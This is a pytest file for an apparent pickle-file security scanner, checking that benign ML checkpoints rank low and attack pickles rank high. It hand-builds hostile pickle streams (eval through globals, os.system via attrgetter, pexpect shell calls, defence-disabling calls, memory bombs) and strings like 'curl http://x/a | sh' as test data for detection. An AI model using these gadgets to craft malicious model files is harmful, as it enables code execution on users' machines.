"""Pickle verdicts from load semantics: real files from ordinary tools stay below medium, attacks rank high.

The benign files come from the real libraries (``tests/assets/make_pickles.py``: a tiny ``transformers``
Trainer run, full-model ``torch.save`` in zip and legacy format, a ``torch.distributed.checkpoint`` folder,
dill/cloudpickle data pickles, statsmodels results); the attack files rebuild published techniques with
``__reduce__``. The hand-assembled streams below pin one cell of the rank table each (usage x location x
argument shape), and the derived-facts path is driven by a small monkeypatched table.
"""

from __future__ import annotations

import json
import pickle
from pathlib import Path
from typing import Any

import pytest

from mlvet.model import FileResult, Severity, Status
from mlvet.policy import default_policy
from mlvet.policy import derived as derived_facts
from mlvet.scanner import scan_file

PICKLES = Path(__file__).resolve().parents[1] / "assets" / "pickles"
MANIFEST = json.loads((PICKLES / "MANIFEST.json").read_text(encoding="utf-8"))
BENIGN = sorted(f for f in MANIFEST["files"] if f.startswith("benign/"))
ATTACKS = sorted(f for f in MANIFEST["files"] if f.startswith("attack/"))


def _scan(path: Path) -> FileResult:
    return scan_file(str(path), default_policy())


def _scan_bytes(tmp_path: Path, data: bytes, name: str = "x.pkl") -> FileResult:
    p = tmp_path / name
    p.write_bytes(data)
    return _scan(p)


def _pairs(result: FileResult) -> list[tuple[str, Severity]]:
    return [(f.rule_id, f.severity) for f in result.findings]


def _args(*args: Any) -> bytes:
    """Plain-data arguments as protocol-2 opcodes (a tuple, without PROTO/STOP)."""
    return pickle.dumps(args, protocol=2)[2:-1]


def _call(module: str, name: str, *args: Any, newobj: bool = False) -> bytes:
    """``module.name(*args)`` through REDUCE (or NEWOBJ), as a __reduce__ writes it."""
    return b"\x80\x02c" + f"{module}\n{name}\n".encode() + _args(*args) + (b"\x81" if newobj else b"R") + b"."


# ---- files written by ordinary tools ------------------------------------------------------------------


@pytest.mark.parametrize("rel", BENIGN)
def test_benign_file_has_nothing_at_medium_or_above(rel: str) -> None:
    result = _scan(PICKLES / rel)
    assert result.status is Status.SCANNED, (result.status, result.errors)
    # The DCP data file's container anomalies (ARC300) belong to the zip reader, not to pickle verdicts.
    findings = [f for f in result.findings if f.rule_id.startswith("PKL")] if rel.endswith(".distcp") else \
        result.findings
    loud = [(f.rule_id, f.severity.label, f.message) for f in findings if f.severity >= Severity.MEDIUM]
    assert not loud, f"{rel}: {loud}"


def test_benign_set_covers_every_named_false_alarm() -> None:
    names = set(BENIGN)
    for expected in ("benign/trainer/training_args.bin", "benign/trainer/optimizer.pt",
                     "benign/trainer/scheduler.pt", "benign/trainer/rng_state.pth",
                     "benign/torch_full/quantized_zip.pt", "benign/torch_full/quantized_legacy.pt",
                     "benign/torch_full/with_config_legacy.pt", "benign/dcp/.metadata",
                     "benign/dill/arrays.pkl", "benign/cloudpickle/arrays.pkl",
                     "benign/statsmodels/sarimax.pickle", "benign/operator/getitem.pkl"):
        assert expected in names


def test_training_args_explain_reconstruction() -> None:
    result = _scan(PICKLES / "benign/trainer/training_args.bin")
    by_rule = {f.rule_id: f for f in result.findings}
    assert set(by_rule) == {"PKL112"}, _pairs(result)
    msgs = " ".join(f.message for f in result.findings)
    assert "accelerate.state.PartialState" in msgs and "DistributedType" in msgs
    assert "__new__/__setstate__" in msgs and "ranked low" in msgs


def test_legacy_full_model_resolves_module_persistent_ids() -> None:
    """Legacy torch.save stores classes as ('module', cls, file, source) persistent ids: no dynamic call."""
    for name in ("tinynet_legacy.pt", "quantized_legacy.pt", "with_config_legacy.pt"):
        result = _scan(PICKLES / "benign/torch_full" / name)
        rules = {f.rule_id for f in result.findings}
        assert "PKL204" not in rules and "PKL210" not in rules, (name, _pairs(result))
        assert any(f.rule_id == "PKL112" and "__main__.TinyNet" in f.message for f in result.findings)


def test_statsmodels_cython_state_is_low() -> None:
    result = _scan(PICKLES / "benign/statsmodels/sarimax.pickle")
    assert any("dStatespace" in f.message for f in result.findings)
    assert max(f.severity for f in result.findings) <= Severity.LOW


def test_dill_array_helper_is_judged_by_what_it_is_handed() -> None:
    assert _scan(PICKLES / "benign/dill/arrays.pkl").findings == ()
    evil = _scan(PICKLES / "attack/dill_create_array_os.pkl")
    assert ("PKL100", Severity.CRITICAL) in _pairs(evil)
    assert any("dill._dill._create_array" in f.message for f in evil.findings)


# ---- attacks --------------------------------------------------------------------------------------------

EXPECTED = {
    "attack/pexpect_run.pkl": ("PKL100", Severity.CRITICAL),  # pexpect is in the dangerous tier
    "attack/thirdparty_cmd.pkl": ("PKL100", Severity.CRITICAL),
    "attack/fickling_remove_hook.pkl": ("PKL100", Severity.CRITICAL),
    "attack/mlvet_guard_uninstall.pkl": ("PKL100", Severity.CRITICAL),
    "attack/fx_reduce_graph_module.pkl": ("PKL100", Severity.CRITICAL),
    "attack/memmap_write.pkl": ("PKL113", Severity.HIGH),
    "attack/fortranfile_write.pkl": ("PKL100", Severity.CRITICAL),
    "attack/npyio_impl_load.pkl": ("PKL100", Severity.CRITICAL),
    "attack/dill_create_array_os.pkl": ("PKL100", Severity.CRITICAL),
    "attack/operator_methodcaller.pkl": ("PKL100", Severity.CRITICAL),
}


def test_every_attack_fixture_has_an_expectation() -> None:
    assert set(ATTACKS) == set(EXPECTED)


@pytest.mark.parametrize("rel", sorted(EXPECTED))
def test_attack_is_high_or_critical(rel: str) -> None:
    result = _scan(PICKLES / rel)
    assert EXPECTED[rel] in _pairs(result), _pairs(result)


def test_defence_tampering_has_its_own_reason() -> None:
    result = _scan(PICKLES / "attack/fickling_remove_hook.pkl")
    assert "load-time defence" in result.findings[0].message


# ---- the rank table, one cell at a time -------------------------------------------------------------------


@pytest.mark.parametrize(
    ("data", "expected"),
    [
        # unknown ML-library callable with plain data: low
        (_call("transformers.models.fake", "make_thing", 3, "bert"), ("PKL110", Severity.LOW)),
        # unknown ML-library callable handed a command line: high
        (_call("transformers.models.fake", "make_thing", "curl http://x/a | sh"), ("PKL110", Severity.HIGH)),
        # unknown stdlib callable with plain data: medium; with code: high
        # The stdlib's derived facts show dedent reaches no sink: whatever text it is given, it returns text.
        (_call("textwrap", "dedent", "hello"), ("PKL110", Severity.LOW)),
        (_call("textwrap", "dedent", "import os\nos.system('id')"), ("PKL110", Severity.LOW)),
        # a __main__ function called: medium
        (_call("__main__", "build", 1, 2), ("PKL110", Severity.MEDIUM)),
        # a package outside the ML ecosystem: plain medium, path high, a dangerous dotted name high
        (_call("somepkg.tasks", "run", 1), ("PKL110", Severity.MEDIUM)),
        (_call("somepkg.tasks", "run", "/etc/passwd"), ("PKL110", Severity.HIGH)),
        (_call("somepkg.tasks", "instantiate", {"_target_": "os.system"}), ("PKL110", Severity.HIGH)),
        # reconstruction (NEWOBJ) of an unknown class anywhere: low
        (_call("somepkg.models", "Net", newobj=True), ("PKL112", Severity.LOW)),
        # an enum looked up by value is reconstruction, not a call
        (_call("somepkg.models", "Color", "RED"), ("PKL112", Severity.LOW)),
        # read-only memmap low, default mode (r+) high, NumPy 2 spelling too
        (_call("numpy", "memmap", "data.bin", "uint8", "r"), ("PKL113", Severity.LOW)),
        (_call("numpy", "memmap", "/home/u/.bashrc"), ("PKL113", Severity.HIGH)),
        (_call("numpy._core.memmap", "memmap", "/x", "uint8", "w+"), ("PKL113", Severity.HIGH)),
        (_call("numpy.core.memmap", "memmap", "/x", "uint8", "readwrite"), ("PKL113", Severity.HIGH)),
        # File handles are never part of a pickled object: any call is the dangerous tier's (advisories).
        (_call("scipy.io._fortran", "FortranFile", "/x", "r"), ("PKL100", Severity.CRITICAL)),
        (_call("pandas", "HDFStore", "/home/u/x.h5"), ("PKL100", Severity.CRITICAL)),
        (_call("torchvision.datasets", "MNIST", "/home/u", True, None, None, True), ("PKL113", Severity.HIGH)),
        # operators on plain data are low; the gadgets stay critical
        (_call("operator", "getitem", [1, 2], 0), ("PKL110", Severity.LOW)),
        # an attrgetter built from plain data and never applied runs nothing
        (_call("_operator", "attrgetter", "name"), ("PKL110", Severity.LOW)),
        # defence tampering and the torch weights-only allowlist
        (_call("torch.serialization", "add_safe_globals", []), ("PKL100", Severity.CRITICAL)),
        # DCP dataclasses are rebuilt; torch.distributed functions stay dangerous
        (_call("torch.distributed.checkpoint.metadata", "Metadata", newobj=True), ("PKL112", Severity.LOW)),
        (_call("torch.distributed", "init_process_group", "gloo"), ("PKL100", Severity.CRITICAL)),
        (_call("torch.distributed.rpc", "rpc_sync", "w", "x"), ("PKL100", Severity.CRITICAL)),
    ],
)
def test_rank_cell(tmp_path: Path, data: bytes, expected: tuple[str, Severity]) -> None:
    result = _scan_bytes(tmp_path, data)
    assert _pairs(result) == [expected], [(f.rule_id, f.severity.label, f.message) for f in result.findings]
    assert "ranked" in result.findings[0].message or expected[1] >= Severity.HIGH


def test_operator_on_an_object_built_while_loading_stays_critical(tmp_path: Path) -> None:
    # operator.getitem(builtins.globals(), 'eval') - the indexed object comes from another call
    data = b"\x80\x02c_operator\ngetitem\ncbuiltins\nglobals\n)RX\x04\x00\x00\x00eval\x86R."
    result = _scan_bytes(tmp_path, data)
    assert ("PKL100", Severity.CRITICAL) in _pairs(result)
    assert not any(f.rule_id == "PKL110" for f in result.findings)


def test_attrgetter_applied_while_loading_stays_critical(tmp_path: Path) -> None:
    # attrgetter('system')(os) - the trampoline's result is called on an object of the file's choosing
    data = b"\x80\x02c_operator\nattrgetter\nX\x06\x00\x00\x00system\x85R" + b"cos\npath\n\x85R."
    pairs = _pairs(_scan_bytes(tmp_path, data))
    assert ("PKL100", Severity.CRITICAL) in pairs and ("PKL204", Severity.HIGH) in pairs, pairs


def test_import_only_is_low_wherever_it_lives(tmp_path: Path) -> None:
    for module in ("somepkg.x", "__main__", "textwrap", "torch.nn.functional"):
        data = b"\x80\x02c" + f"{module}\nthing\n".encode() + b"."
        assert _pairs(_scan_bytes(tmp_path, data)) == [("PKL111", Severity.LOW)], module


# ---- derived facts drive the rank when they exist ------------------------------------------------------


@pytest.fixture
def facts(monkeypatch: pytest.MonkeyPatch) -> None:
    # bits: exec=1, import=2, process=4, file-write=8, network=16, deserialize=32, native=64
    table = {
        "somepkg.models:Safe": ["c", "somepkg", 0, 0, ""],
        "somepkg.models:Loader": ["c", "somepkg", 32, 32, "Loader.__setstate__ -> pickle.loads"],
        "somepkg.tasks:run": ["f", "somepkg", 0, 4, "run -> subprocess.Popen"],
        "somepkg.tasks:echo": ["f", "somepkg", 0, 0, ""],
        "somepkg.tasks:upload": ["f", "somepkg", 0, 16, "upload -> requests.post"],
    }

    def lookup(module: str, qualname: str) -> derived_facts.LoadFacts | None:
        packed = table.get(f"{module}:{qualname}")
        if packed is None:
            return None
        kind, library, rec, call, path = packed
        unpack = derived_facts._unpack
        return derived_facts.LoadFacts(module, qualname, "class" if kind == "c" else "function", str(library),
                                       unpack(int(rec)), unpack(int(call)), str(path), str(path))

    monkeypatch.setattr(derived_facts, "lookup", lookup)


@pytest.mark.parametrize(
    ("data", "expected", "evidence"),
    [
        (_call("somepkg.models", "Safe", newobj=True), ("PKL112", Severity.LOW), ""),
        (_call("somepkg.models", "Loader", newobj=True), ("PKL112", Severity.HIGH), "pickle.loads"),
        (_call("somepkg.tasks", "run", 1), ("PKL110", Severity.CRITICAL), "subprocess.Popen"),
        (_call("somepkg.tasks", "upload", 1), ("PKL110", Severity.HIGH), "requests.post"),
        # the source shows no sink: even a command-like string cannot do anything there
        (_call("somepkg.tasks", "echo", "curl x | sh"), ("PKL110", Severity.LOW), ""),
    ],
)
def test_derived_facts_rank(tmp_path: Path, facts: None, data: bytes, expected: tuple[str, Severity],
                            evidence: str) -> None:
    result = _scan_bytes(tmp_path, data)
    assert _pairs(result) == [expected]
    assert evidence in result.findings[0].evidence
    assert "source" in result.findings[0].message


# ---- published bypasses rebuilt (advisories MISSES.md) -----------------------------------------------------


class _Ref:
    """A global written by name (never imported): ``_Ref('os', 'system')``."""

    def __init__(self, module: str, name: str) -> None:
        self.module, self.name = module, name

    def __call__(self, *args: Any) -> None:  # pickle's save_reduce only checks callability
        raise AssertionError("never called")


class _R:
    """Pickles as ``func(*args)`` (itself callable, so a call's result can be called again)."""

    def __init__(self, func: Any, *args: Any) -> None:
        self.func, self.args = func, args

    def __call__(self, *args: Any) -> None:
        raise AssertionError("never called")

    def __reduce__(self) -> tuple[Any, tuple[Any, ...]]:
        return self.func, self.args


class _RefPickler(pickle._Pickler):  # type: ignore[name-defined,misc]
    dispatch = dict(pickle._Pickler.dispatch)  # type: ignore[attr-defined]

    def save_ref(self, obj: _Ref) -> None:
        self.save(obj.module)
        self.save(obj.name)
        self.write(pickle.STACK_GLOBAL)
        self.memoize(obj)

    dispatch[_Ref] = save_ref


def _dumps(obj: Any) -> bytes:
    import io

    buf = io.BytesIO()
    _RefPickler(buf, protocol=4).dump(obj)
    return buf.getvalue()


@pytest.mark.parametrize(
    ("obj", "expected"),
    [
        # a trust_remote_code-style class called with a repository path
        (_R(_Ref("sentence_transformers", "SentenceTransformer"), "/tmp/mlvet_repo"), ("PKL110", Severity.HIGH)),
        (_R(_Ref("sentence_transformers.SentenceTransformer", "SentenceTransformer"), "/tmp/repo"),
         ("PKL110", Severity.HIGH)),
        # argv lists and files opened for writing by non-ML callables
        (_R(_Ref("pexpect.popen_spawn", "PopenSpawn"), ["sh", "-c", "touch /tmp/x"]), ("PKL100", Severity.CRITICAL)),
        (_R(_Ref("gzip", "open"), "mlvet_marker.out", "wb"), ("PKL100", Severity.CRITICAL)),  # advisories deny entry
        # Keras' process-wide safe_mode switch, and exit() at load time
        (_R(_Ref("keras.config", "enable_unsafe_deserialization")), ("PKL100", Severity.CRITICAL)),
        (_R(_Ref("builtins", "exit")), ("PKL100", Severity.CRITICAL)),
        # allocation bombs built from trusted callables
        (_R(_Ref("builtins", "bytearray"), 2**31 - 1), ("PKL209", Severity.HIGH)),
        (_R(_Ref("builtins", "list"), _R(_Ref("builtins", "range"), 10**10)), ("PKL209", Severity.HIGH)),
        # dill's type table: plain types are data, CodeType is code
        (_R(_R(_Ref("dill._dill", "_load_type"), "complex"), 1.0, 2.0), None),
        (_R(_Ref("dill._dill", "_load_type"), "CodeType"), ("PKL100", Severity.CRITICAL)),
        # pickle's own spelling of a method reference
        (_R(_Ref("builtins", "getattr"), _Ref("numpy", "add"), "reduce"), ("PKL110", Severity.LOW)),
        (_R(_Ref("builtins", "getattr"), _Ref("somepkg", "thing"), "run"), ("PKL100", Severity.CRITICAL)),
    ],
)
def test_published_bypass(tmp_path: Path, obj: Any, expected: tuple[str, Severity] | None) -> None:
    result = _scan_bytes(tmp_path, _dumps(obj))
    pairs = _pairs(result)
    if expected is None:
        assert not [p for p in pairs if p[1] >= Severity.MEDIUM], pairs
    else:
        assert expected in pairs, [(f.rule_id, f.severity.label, f.message) for f in result.findings]


def test_trusted_constructor_handed_an_unknown_callable(tmp_path: Path) -> None:
    """LambdaLR(optimizer, fn) calls fn(0) while it is constructed: any callable becomes reachable."""
    sgd = _R(_Ref("torch.optim.sgd", "SGD"), [])
    data = _dumps(_R(_Ref("torch.optim.lr_scheduler", "LambdaLR"), sgd, _Ref("somepkg.hooks", "on_load")))
    assert ("PKL113", Severity.HIGH) in _pairs(_scan_bytes(tmp_path, data))


def test_memo_index_bomb(tmp_path: Path) -> None:
    """PROTO 2, NONE, LONG_BINPUT 0x7fffffff, STOP: CPython sizes its memo table to 2**32 slots."""
    result = _scan_bytes(tmp_path, b"\x80\x02Nr\xff\xff\xff\x7f.")
    assert ("PKL209", Severity.HIGH) in _pairs(result)
